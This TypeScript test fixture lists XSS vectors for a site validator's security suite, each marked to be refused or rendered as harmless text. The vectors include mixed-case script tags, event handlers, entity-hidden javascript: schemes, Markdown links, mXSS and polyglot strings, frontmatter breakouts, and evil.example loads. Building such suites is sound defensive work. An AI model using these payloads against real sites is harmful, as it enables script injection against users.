/**
 * Hostile content for the security suites, written here from the well-known
 * classes of public XSS vector lists (not copied from any list): mixed-case
 * tags, event handlers, SVG and MathML payloads, URL schemes hidden behind
 * entities, tabs and newlines, Markdown link forms, broken nesting, comments,
 * CDATA, template injection and frontmatter text that tries to break out of
 * attributes, <title> and JSON-LD.
 *
 * Every payload tries to set `window.__pwned` (and most also call alert), so a
 * browser test can tell execution from inert text. Each vector says what must
 * happen to it: 'refused' (the validator reports an error at its line) or
 * 'inert' (it validates and the page shows it as text, running nothing).
 */

/** What a payload does if it ever runs. */
export const PAYLOAD = 'alert(window.__pwned=1)';

export interface BodyVector {
  /** Slug, used in the file name of the policy that carries it. */
  id: string;
  /** The vector class, for test names. */
  label: string;
  /** Markdown body text holding the payload. */
  body: string;
  expect: 'refused' | 'inert';
  /**
   * For inert vectors: text the rendered page must still show, proving the
   * payload was kept as text rather than silently dropped.
   */
  shows?: string;
}

const P = PAYLOAD;

export const BODY_VECTORS: BodyVector[] = [
  // Script elements, however spelled.
  { id: 'script-mixed-case', label: 'script tag in mixed case', body: `<ScRiPt>${P}</sCrIpT>`, expect: 'refused' },
  { id: 'script-src', label: 'external script', body: '<script src="https://evil.example/x.js"></script>', expect: 'refused' },
  { id: 'script-space', label: 'whitespace before the tag name', body: `< script>${P}</ script>`, expect: 'refused' },
  { id: 'broken-nesting', label: 'tag split by a nested tag', body: `<scr<script>ipt>${P}</scr</script>ipt>`, expect: 'refused' },
  { id: 'comment-script', label: 'script inside a comment', body: `<!--<script>${P}</script>-->`, expect: 'refused' },
  { id: 'comment-breakout', label: 'comment closed early with --!>', body: `<!-- --!><img src=x onerror="${P}"> -->`, expect: 'refused' },
  { id: 'cdata', label: 'CDATA section hiding a tag', body: `<![CDATA[><img src=x onerror=${P}//]]>`, expect: 'refused' },
  { id: 'noscript-mxss', label: 'noscript mutation (mXSS)', body: `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`, expect: 'refused' },
  { id: 'polyglot', label: 'polyglot string', body: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${P} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${P}//>\\x3e`, expect: 'refused' },

  // Event handlers on anything.
  { id: 'img-onerror', label: '<img src=x onerror>', body: `<img src=x onerror="${P}">`, expect: 'refused' },
  { id: 'img-onerror-slashes', label: 'handler separated by slashes', body: `<img/src=x/onerror=${P}>`, expect: 'refused' },
  { id: 'img-onerror-quote-glued', label: 'handler glued to a quote', body: `<img src="x"onerror="${P}">`, expect: 'refused' },
  { id: 'svg-onload', label: '<svg onload>', body: `<svg onload=${P}>`, expect: 'refused' },
  { id: 'svg-script', label: '<svg><script>', body: `<svg><script>${P}</script></svg>`, expect: 'refused' },
  { id: 'svg-animate-href', label: 'SVG animate setting href', body: `<svg><a><animate attributeName=href values=javascript:${P} /><text y=20>x</text></a></svg>`, expect: 'refused' },
  { id: 'math-xlink', label: '<math><mi xlink:href>', body: `<math><mi xlink:href="javascript:${P}">x</mi></math>`, expect: 'refused' },
  { id: 'details-ontoggle', label: '<details open ontoggle>', body: `<details open ontoggle="${P}"><summary>x</summary></details>`, expect: 'refused' },
  { id: 'custom-element-onclick', label: 'custom element with onclick', body: `<x-y onclick="${P}">x</x-y>`, expect: 'refused' },
  { id: 'input-autofocus', label: 'autofocus + onfocus', body: `<input autofocus onfocus="${P}">`, expect: 'refused' },
  { id: 'video-source-onerror', label: 'media source onerror', body: `<video><source onerror="${P}"></video>`, expect: 'refused' },

  // javascript:, vbscript:, data: behind entities, whitespace and case.
  { id: 'href-js-tab-entity', label: 'jav&#x09;ascript:', body: `<a href="jav&#x09;ascript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-decimal-entity', label: '&#106;avascript:', body: `<a href="&#106;avascript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-hex-entity', label: '<a href="&#x6A;avascript:">', body: `<a href="&#x6A;avascript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-padded-entity', label: 'zero-padded entity without semicolon', body: `<a href="&#0000106avascript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-named-colon', label: 'javascript&colon;', body: `<a href="javascript&colon;${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-named-tab', label: 'java&Tab;script:', body: `<a href="java&Tab;script:${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-newline', label: 'newline inside the scheme', body: `<a href="java\nscript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-js-space-case', label: 'leading spaces, mixed case, unquoted', body: `<A HREF=  JaVaScRiPt:${P}>x</A>`, expect: 'refused' },
  { id: 'href-after-quoted-gt', label: '">" inside an earlier attribute value', body: `<a title=">" href="javascript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-long-attribute', label: 'handler after a 5,000-character attribute', body: `<a title="${'A'.repeat(5000)}" href="javascript:${P}">x</a>`, expect: 'refused' },
  { id: 'href-vbscript', label: 'vbscript:', body: '<a href="vbscript:msgbox(1)">x</a>', expect: 'refused' },
  { id: 'href-data-html', label: 'data:text/html link', body: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', expect: 'refused' },
  { id: 'table-background', label: 'background attribute', body: `<table background="javascript:${P}"><tr><td>x</td></tr></table>`, expect: 'refused' },

  // Frames, plugins, forms, base, meta, link, style.
  { id: 'iframe-srcdoc', label: '<iframe srcdoc>', body: '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>', expect: 'refused' },
  { id: 'iframe-mixed-case', label: '<IfRaMe src>', body: '<IfRaMe src="https://evil.example/"></iframe>', expect: 'refused' },
  { id: 'object-data', label: '<object data>', body: `<object data="data:text/html,<script>${P}</script>"></object>`, expect: 'refused' },
  { id: 'embed-src', label: '<embed src>', body: `<embed src="javascript:${P}">`, expect: 'refused' },
  { id: 'form-action', label: '<form action>', body: `<form action="javascript:${P}"><button>Go</button></form>`, expect: 'refused' },
  { id: 'button-formaction', label: '<button formaction>', body: `<button formaction="javascript:${P}">Go</button>`, expect: 'refused' },
  { id: 'base-href', label: '<base href>', body: '<base href="https://evil.example/">', expect: 'refused' },
  { id: 'meta-refresh', label: '<meta http-equiv=refresh>', body: `<meta http-equiv="refresh" content="0;url=javascript:${P}">`, expect: 'refused' },
  { id: 'link-import', label: '<link rel=import>', body: '<link rel="import" href="https://evil.example/x.html">', expect: 'refused' },
  { id: 'style-import', label: '<style>@import</style>', body: '<style>@import url(https://evil.example/x.css);</style>', expect: 'refused' },
  { id: 'style-attribute-url', label: 'style="background:url(javascript:…)"', body: `<div style="background:url(javascript:${P})">x</div>`, expect: 'refused' },
  { id: 'img-third-party', label: 'image from another site (a third-party request)', body: '<img src="https://evil.example/pixel.png" alt="">', expect: 'refused' },
  { id: 'img-srcset-third-party', label: 'srcset from another site', body: '<img srcset="https://evil.example/pixel.png 1x" alt="">', expect: 'refused' },

  // Markdown link forms.
  { id: 'md-link-js', label: '[x](javascript:…)', body: `[x](javascript:${P})`, expect: 'refused' },
  { id: 'md-image-js', label: '![x](javascript:…)', body: `![x](javascript:${P})`, expect: 'refused' },
  { id: 'md-link-angle-js', label: '[x](<javascript:…>)', body: `[x](<javascript:${P}>)`, expect: 'refused' },
  { id: 'md-link-entity-js', label: '[x](&#106;avascript:…)', body: `[x](&#106;avascript:${P})`, expect: 'refused' },
  { id: 'md-link-named-colon', label: '[x](javascript&colon;…)', body: `[x](javascript&colon;${P})`, expect: 'refused' },
  { id: 'md-link-backslash', label: '[x](javascript\\:…) with a Markdown escape', body: `[x](javascript\\:${P})`, expect: 'refused' },
  { id: 'md-link-data', label: '[x](data:text/html…)', body: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', expect: 'refused' },
  { id: 'md-reference-js', label: 'reference-style link to javascript:', body: `[x][evil]\n\n[evil]: javascript:${P}`, expect: 'refused' },
  { id: 'md-autolink-js', label: 'autolink <javascript:…>', body: `<javascript:${P}>`, expect: 'refused' },
  { id: 'md-image-third-party', label: 'Markdown image from another site', body: '![pixel](https://evil.example/pixel.png)', expect: 'refused' },

  // Span attribute smuggling: a quote inside a single-quoted class.
  { id: 'span-class-breakout', label: 'span class smuggling data-passage', body: `<span class='def-x" data-passage="__pwned'>x</span>`, expect: 'refused' },

  // Inert: text that looks dangerous and must simply be shown.
  { id: 'template-injection', label: '{{constructor.constructor(…)()}}', body: `{{constructor.constructor('${P}')()}}`, expect: 'inert', shows: `{{constructor.constructor('${P}')()}}` },
  { id: 'template-literal', label: '${…} and #{…}', body: `\${${P}} and #{${P}}`, expect: 'inert', shows: `\${${P}} and #{${P}}` },
  { id: 'escaped-script', label: 'entity-escaped script tag', body: `&lt;script&gt;${P}&lt;/script&gt;`, expect: 'inert', shows: `<script>${P}</script>` },
  { id: 'escaped-img', label: 'numeric-entity img tag', body: `&#x3C;img src=x onerror=${P}&#x3E;`, expect: 'inert', shows: `<img src=x onerror=${P}>` },
  { id: 'fullwidth-script', label: 'full-width look-alike brackets', body: `＜script＞${P}＜/script＞`, expect: 'inert', shows: `＜script＞${P}＜/script＞` },
  { id: 'js-in-link-text', label: 'javascript: only in the link text', body: `[javascript:${P}](https://example.org/)`, expect: 'inert', shows: `javascript:${P}` },
  { id: 'js-in-code-span', label: 'javascript: in a code span', body: `\`javascript:${P}\``, expect: 'inert', shows: `javascript:${P}` },
  { id: 'md-title-breakout', label: 'link title trying to add a handler', body: `[x](https://example.org/ "t\\" onmouseover=\\"${P}")`, expect: 'inert', shows: 'x' },
  // Inert and ordinary: what the stricter rules must not refuse.
  { id: 'plain-links', label: 'ordinary https, mailto and query links', body: '[records](https://records.example.org/search?q=a&type=b) or <a href="mailto:clerk@example.org">the clerk</a>, see <abbr title="Revised Statutes of Missouri">RSMo</abbr> 610', expect: 'inert', shows: 'records or the clerk, see RSMo 610' },
  { id: 'percent-encoded-scheme', label: 'percent-encoded scheme', body: `[x](java%73cript:${P})`, expect: 'inert', shows: 'x' },
];

/**
 * Frontmatter text that tries to leave its context: the <title>, an attribute
 * (meta description, og:title), a JSON-LD <script>, or a template.
 */
export const FRONTMATTER_PAYLOADS = {
  scriptBreakout: `</script><script>${P}</script>`,
  attributeBreakout: `"><img src=x onerror=${P}>`,
  titleBreakout: `</title><svg onload=${P}>`,
  template: `{{constructor.constructor('${P}')()}}`,
  singleQuote: `'><img src=x onerror=${P}>`,
} as const;

/** Every frontmatter payload in one string, for fields that show one text. */
export const ALL_FRONTMATTER_PAYLOADS = Object.values(FRONTMATTER_PAYLOADS).join(' ');
